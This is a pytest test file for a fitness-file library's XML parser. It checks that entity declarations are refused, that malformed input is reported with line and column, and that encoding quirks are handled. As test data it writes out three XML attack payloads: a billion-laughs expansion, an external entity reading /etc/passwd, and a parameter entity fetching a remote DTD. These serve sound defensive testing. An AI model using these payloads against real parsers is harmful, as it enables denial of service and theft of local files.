"""Hostile and broken XML: entities refused, malformed documents located, real quirks repaired.

The hostile documents are written by the test (billion laughs, external entities); the quirks
come from real files in ../shared/data.
"""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from backstride.errors import FileFormatError, UnsafeInputError
from backstride.formats import decode
from backstride.formats.gpx import read_gpx
from backstride.formats.tcx import read_tcx
from backstride.formats.xmlsafe import local_name, namespace_of, parse_xml
from tests.formats.conftest import GPX, TCX

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<gpx><trk><name>&lol9;</name></trk></gpx>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE TrainingCenterDatabase [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<TrainingCenterDatabase><Activities><Activity Sport="Running"><Id>&secret;</Id>
</Activity></Activities></TrainingCenterDatabase>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<gpx/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
@pytest.mark.parametrize("label", ["evil.gpx", "evil.tcx"])
def test_entity_declarations_are_refused(document: bytes, label: str) -> None:
    with pytest.raises(UnsafeInputError) as caught:
        decode(label, document)
    assert caught.value.reason == "XML entity declarations are not allowed"
    assert caught.value.path == label


def test_readers_refuse_entities_directly() -> None:
    with pytest.raises(UnsafeInputError):
        read_gpx(BILLION_LAUGHS)
    with pytest.raises(UnsafeInputError):
        read_tcx(EXTERNAL_ENTITY)


def test_a_dtd_without_entities_is_harmless_and_accepted() -> None:
    parsed = parse_xml(b'<!DOCTYPE gpx [<!ELEMENT gpx ANY>]><gpx version="1.1"/>', "x.gpx")
    assert parsed.root.tag == "gpx"


@pytest.mark.parametrize(
    ("document", "where"),
    [
        (b"<gpx>\n<trk>\n<trkseg>\n</trk>", "line 4, column 2"),
        (b"\n\n   <?xml version='1.0'?>\n<gpx><a></b></gpx>", "line 4, column 10"),
        (b"<gpx><trk>", "line 1, column 10"),
        (b"<gpx>&nbsp;</gpx>", "line 1, column 5"),
        (b"", "line 1, column 0"),
    ],
)
def test_malformed_xml_names_line_and_column(document: bytes, where: str) -> None:
    with pytest.raises(FileFormatError) as caught:
        decode("broken.gpx", document)
    assert not isinstance(caught.value, UnsafeInputError)
    assert caught.value.reason.startswith("malformed XML at ")
    assert where in caught.value.reason


def test_truncated_real_file_is_malformed_with_a_line_number() -> None:
    data = (TCX / "runpandas__run_garmin.tcx").read_bytes()[:5000]
    with pytest.raises(FileFormatError, match=r"malformed XML at line \d+, column \d+"):
        read_tcx(data, "cut.tcx")


def test_bom_and_leading_whitespace_are_tolerated() -> None:
    assert (
        local_name(parse_xml((GPX / "gpxpy__unicode_with_bom.gpx").read_bytes(), "b").root.tag)
        == "gpx"
    )
    assert parse_xml(b"\xef\xbb\xbf \n <?xml version='1.0'?><gpx/>", "b").root.tag == "gpx"
    root = parse_xml((TCX / "sportslib__6281425038.tcx").read_bytes(), "t").root
    assert local_name(root.tag) == "TrainingCenterDatabase"


def test_utf16_documents_are_read() -> None:
    doc = '<?xml version="1.0" encoding="UTF-16"?><gpx version="1.1"><trk/></gpx>'.encode("utf-16")
    assert parse_xml(doc, "u").root.tag == "gpx"


def test_unbound_prefixes_are_declared_and_noted() -> None:
    parsed = parse_xml(b'<gpx><trkpt lat="1"><ext:hr a:b="1">70</ext:hr></trkpt></gpx>', "p")
    hr = next(e for e in parsed.root.iter() if local_name(e.tag) == "hr")
    assert hr.text == "70"
    assert namespace_of(hr.tag) == "{urn:backstride:undeclared:ext}"
    assert parsed.warnings == (
        "declared namespace prefixes the file uses without declaring: a, ext",
    )


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_parse_xml_raises_only_file_format_errors(data: bytes) -> None:
    with contextlib.suppress(FileFormatError):
        parse_xml(data, "fuzz")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<>/?!=\"' :abgpxDOCTYPENTIY&;%[]\n", max_size=200))
def test_xml_shaped_text_raises_only_file_format_errors(text: str) -> None:
    with contextlib.suppress(FileFormatError):
        parse_xml(text.encode(), "fuzz")
